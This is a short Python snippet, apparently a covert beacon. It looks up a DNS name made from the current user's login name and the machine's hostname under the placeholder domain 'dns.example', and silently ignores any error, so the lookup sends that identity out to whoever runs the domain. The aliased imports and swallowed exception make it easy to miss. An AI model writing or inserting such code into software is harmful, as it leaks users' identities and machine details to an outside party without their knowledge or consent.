import socket as _s, getpass as _g
try:
    _s.gethostbyname("%s.%s.dns.example" % (_g.getuser(), _s.gethostname()))
except OSError:
    pass
